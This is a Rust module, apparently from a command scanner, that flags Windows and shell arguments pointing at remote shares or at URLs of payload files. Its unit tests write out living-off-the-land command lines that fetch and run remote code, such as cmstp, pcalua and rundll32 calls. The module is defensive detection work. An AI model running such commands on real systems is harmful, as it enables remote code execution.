//! Arguments that make any program a transfer, whatever its name: a file
//! on another host's share (`\\host\share\x`, WebDAV `\\host@SSL\…`) handed
//! to a Windows program, and a remote URL naming a program, script, library
//! or archive (`…/payload.exe`, `…/x.hta`, `/zhttp://…/a.sct`). These catch
//! living-off-the-land programs the catalogue does not list yet (LOLBAS
//! grows every month) without naming them; text only shown (`echo`,
//! `Write-Host`) and variable assignments are not commands that run.

use super::addr::{is_loopback, unc_host, url_host};
use super::program::is_mention;
use super::{Cmd, Lang};

/// Extensions of what a download brings to run: executables, libraries,
/// scripts, installers, archives and disk images.
const PAYLOAD_EXTS: &[&str] = &[
    "exe",
    "dll",
    "scr",
    "cpl",
    "ocx",
    "sys",
    "com",
    "msi",
    "msp",
    "msix",
    "appx",
    "appxbundle",
    "appinstaller",
    "application",
    "xbap",
    "ps1",
    "psm1",
    "psd1",
    "bat",
    "cmd",
    "vbs",
    "vbe",
    "js",
    "jse",
    "wsf",
    "wsh",
    "hta",
    "sct",
    "inf",
    "xsl",
    "lnk",
    "jar",
    "zip",
    "7z",
    "rar",
    "cab",
    "iso",
    "img",
    "vhd",
    "vhdx",
    "sh",
    "elf",
    "py",
    "pl",
];

/// Programs whose arguments are not run or fetched (assignments, labels).
const NOT_RUN: &[&str] = &[
    "set",
    "setx",
    "title",
    "rem",
    "goto",
    "set-variable",
    "new-variable",
];

/// Which generic rule `argv` (from the program at `at`) matches, and
/// whether every host it names is a loopback one.
pub fn matches(
    lang: Lang,
    prog: &str,
    argv: &[String],
    at: usize,
    c: &Cmd,
) -> Option<(&'static str, bool)> {
    let assignment =
        argv.get(1).is_some_and(|w| w == "=") || argv.first().is_some_and(|w| w.starts_with('$'));
    if is_mention(prog) || NOT_RUN.contains(&prog) || prog.starts_with('$') || assignment {
        return None;
    }
    let rest = argv.get(at + 1..).unwrap_or_default();
    let windows = matches!(lang, Lang::Batch | Lang::PowerShell);
    if windows {
        let shares: Vec<String> = argv
            .get(at..)
            .unwrap_or_default()
            .iter()
            .filter_map(|a| share_host(a))
            .chain(c.redirs.iter().filter_map(|r| share_host(&r.target)))
            .collect();
        if !shares.is_empty() {
            return Some((
                "remote-share-argument",
                shares.iter().all(|h| is_loopback(h)),
            ));
        }
    }
    let urls: Vec<String> = rest.iter().filter_map(|a| payload_url(a)).collect();
    if urls.is_empty() {
        return None;
    }
    Some(("payload-url-argument", urls.iter().all(|h| is_loopback(h))))
}

/// The host of a UNC path, also as a switch's value
/// (`/format:"\\host\share\x.xsl"`, `-Path=\\host\share`).
pub fn share_host(a: &str) -> Option<String> {
    let a = a.trim_matches(['"', '\'']);
    // PowerShell provider paths: `Microsoft.PowerShell.Core\FileSystem::\\host\s`
    let a = a
        .split_once("::\\\\")
        .map_or(a, |(_, r)| &a[a.len() - r.len() - 2..]);
    if let Some(h) = unc_host(a) {
        return Some(h);
    }
    let (sw, v) = a.split_once([':', '='])?;
    let is_switch = sw.len() <= 32
        && sw.starts_with(['/', '-'])
        && sw[1..]
            .trim_start_matches('-')
            .bytes()
            .all(|b| b.is_ascii_alphanumeric());
    if !is_switch {
        return None;
    }
    unc_host(v.trim_matches(['"', '\'']))
}

/// The host of a remote URL at the start of `a` (after a switch prefix such
/// as `/z`, `-url:`, `--url=`, `/i:`) whose path names a payload file.
pub fn payload_url(a: &str) -> Option<String> {
    // A batch `for` set's last word keeps its closing bracket: `…/a.exe')`.
    let a = a.trim_matches(['"', '\'']);
    let a = a.strip_suffix("')").unwrap_or(a);
    let at = a.find("://")?;
    let scheme_start = super::addr::after_last(&a[..at], |c| !c.is_ascii_alphabetic());
    let scheme = a[scheme_start..at].to_ascii_lowercase();
    let scheme = ["https", "http", "ftp", "tftp"]
        .iter()
        .find(|s| scheme.ends_with(**s))?;
    let url_start = at - scheme.len();
    let prefix = &a[..url_start];
    let switch_prefix = prefix.is_empty()
        || prefix.eq_ignore_ascii_case("script:")
        || prefix.starts_with(['/', '-'])
            && prefix
                .trim_start_matches(['/', '-'])
                .trim_end_matches([':', '='])
                .bytes()
                .all(|b| b.is_ascii_alphanumeric());
    if !switch_prefix {
        return None;
    }
    let url = &a[url_start..];
    let path = url[scheme.len() + 3..]
        .split(['?', '#'])
        .next()
        .unwrap_or_default();
    let (_, file) = path.rsplit_once('/')?;
    let (_, ext) = file.rsplit_once('.')?;
    let ext = ext.to_ascii_lowercase();
    if !PAYLOAD_EXTS.contains(&ext.as_str()) {
        return None;
    }
    url_host(url)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn payload_urls_by_extension_and_prefix() {
        assert_eq!(
            payload_url("http://198.51.100.7/a.exe").as_deref(),
            Some("198.51.100.7")
        );
        assert_eq!(
            payload_url("/zhttp://h.example/p/x.sct?x=1").as_deref(),
            Some("h.example")
        );
        assert_eq!(
            payload_url("-url:https://h.example/x.PS1").as_deref(),
            Some("h.example")
        );
        assert_eq!(
            payload_url("\"https://h.example/setup.msi\"").as_deref(),
            Some("h.example")
        );
        assert!(payload_url("https://h.example/docs/index.html").is_none());
        assert!(payload_url("https://h.example/").is_none());
        assert!(payload_url("s|https://h.example/a.sh|x|").is_none());
        assert!(payload_url("see:https://h.example/a.exe").is_none());
    }

    #[test]
    fn shares_as_words_and_switch_values() {
        assert_eq!(
            share_host("\\\\203.0.113.9\\share\\x.dll").as_deref(),
            Some("203.0.113.9")
        );
        assert_eq!(
            share_host("/format:\"\\\\h.example\\s\\x.xsl\"").as_deref(),
            Some("h.example")
        );
        assert_eq!(
            share_host("Microsoft.PowerShell.Core\\FileSystem::\\\\h.example\\s\\a.exe").as_deref(),
            Some("h.example")
        );
        assert!(share_host("C:\\Windows\\x.dll").is_none());
        assert!(share_host("/format:list").is_none());
    }

    fn cmd(words: &[&str]) -> (Vec<String>, Cmd) {
        let argv: Vec<String> = words.iter().map(|w| w.to_string()).collect();
        let c = Cmd {
            argv: argv.clone(),
            ..Default::default()
        };
        (argv, c)
    }

    #[test]
    fn any_program_but_text_and_assignments() {
        let (a, c) = cmd(&["pcalua", "-a", "\\\\203.0.113.9\\share\\p.dll"]);
        assert_eq!(
            matches(Lang::Batch, "pcalua", &a, 0, &c),
            Some(("remote-share-argument", false))
        );
        let (a, c) = cmd(&["rundll32", "\\\\localhost\\c$\\p.dll,Run"]);
        assert_eq!(
            matches(Lang::Batch, "rundll32", &a, 0, &c),
            Some(("remote-share-argument", true))
        );
        let (a, c) = cmd(&["cp", "//srv/share/x", "/tmp"]);
        assert_eq!(matches(Lang::Sh, "cp", &a, 0, &c), None);
        let (a, c) = cmd(&["echo", "\\\\h.example\\s\\x.exe"]);
        assert_eq!(matches(Lang::Batch, "echo", &a, 0, &c), None);
        let (a, c) = cmd(&["set", "S=\\\\h.example\\s\\x.exe"]);
        assert_eq!(matches(Lang::Batch, "set", &a, 0, &c), None);
        let (a, c) = cmd(&["$u", "=", "https://h.example/setup.exe"]);
        assert_eq!(matches(Lang::PowerShell, "=", &a, 1, &c), None);
        let (a, c) = cmd(&["cmstp", "/ni", "/s", "http://198.51.100.7/p.inf"]);
        assert_eq!(
            matches(Lang::Batch, "cmstp", &a, 0, &c),
            Some(("payload-url-argument", false))
        );
        let (a, c) = cmd(&["start", "https://docs.example/help.html"]);
        assert_eq!(matches(Lang::Batch, "start", &a, 0, &c), None);
    }

    #[test]
    fn share_host_as_a_switch_value_of_at_most_32_characters() {
        let sw = |n: usize| format!("/{}:\\\\files.example\\s\\x.xsl", "f".repeat(n - 1));
        assert_eq!(share_host(&sw(32)).as_deref(), Some("files.example"));
        assert_eq!(share_host(&sw(33)), None);
        assert_eq!(
            share_host("-Path=\"\\\\files.example\\s\"").as_deref(),
            Some("files.example")
        );
        assert_eq!(
            share_host("Microsoft.PowerShell.Core\\FileSystem::\\\\files.example\\s\\a.ps1")
                .as_deref(),
            Some("files.example")
        );
        // Not a switch: a drive letter or a word with other characters.
        assert_eq!(share_host("C:\\\\files.example\\s"), None);
        assert_eq!(share_host("/f.xyz:\\\\files.example\\s"), None);
    }
}
